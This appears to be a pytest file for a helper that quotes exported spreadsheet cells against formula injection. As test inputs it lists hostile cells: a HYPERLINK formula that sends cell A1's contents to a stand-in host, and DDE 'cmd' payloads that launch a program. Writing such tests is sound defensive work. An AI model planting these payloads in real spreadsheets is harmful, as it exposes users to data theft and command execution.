"""Exported cells never run as spreadsheet formulas, and numbers keep their meaning."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from hogo.lib.spreadsheets import safe_cell, safe_row


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://example.invalid/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\uff1d1+1",  # a full-width equals sign, which some spreadsheets also accept
    ],
)
def test_a_cell_that_would_start_a_formula_is_quoted(hostile: str) -> None:
    assert safe_cell(hostile) == "'" + hostile


@pytest.mark.parametrize(
    "plain", ["-3", "+1.5", "-0.25", "1e-3", "<10", "金 正一", "Kim Jong-il", ""]
)
def test_numbers_and_ordinary_text_are_left_alone(plain: str) -> None:
    assert safe_cell(plain) == plain


def test_values_that_are_not_text_are_left_alone() -> None:
    assert safe_row([3, None, 2.5, "=1"]) == [3, None, 2.5, "'=1"]


def test_a_quoted_cell_opens_as_text_in_a_workbook_and_in_csv() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(safe_row(["=1+1", "-3"]))
    out = io.BytesIO()
    book.save(out)
    reopened = load_workbook(io.BytesIO(out.getvalue())).active
    assert reopened is not None
    assert reopened["A1"].data_type == "s"
    assert reopened["A1"].value == "'=1+1"

    text = io.StringIO()
    csv.writer(text).writerow(safe_row(["=1+1", "-3"]))
    assert next(csv.reader(io.StringIO(text.getvalue()))) == ["'=1+1", "-3"]
